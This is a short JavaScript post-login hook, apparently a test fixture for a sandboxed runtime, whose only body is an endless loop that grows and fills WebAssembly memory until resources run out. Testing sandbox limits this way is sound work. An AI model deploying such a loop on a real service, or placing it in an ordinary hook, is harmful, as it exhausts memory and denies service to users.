// Grows WebAssembly memory => memory
exports.onExecutePostLogin = async (event, api) => {
  const memory = new WebAssembly.Memory({ initial: 1, maximum: 65_536 });
  for (;;) {
    memory.grow(256);
    new Uint8Array(memory.buffer).fill(1);
  }
};
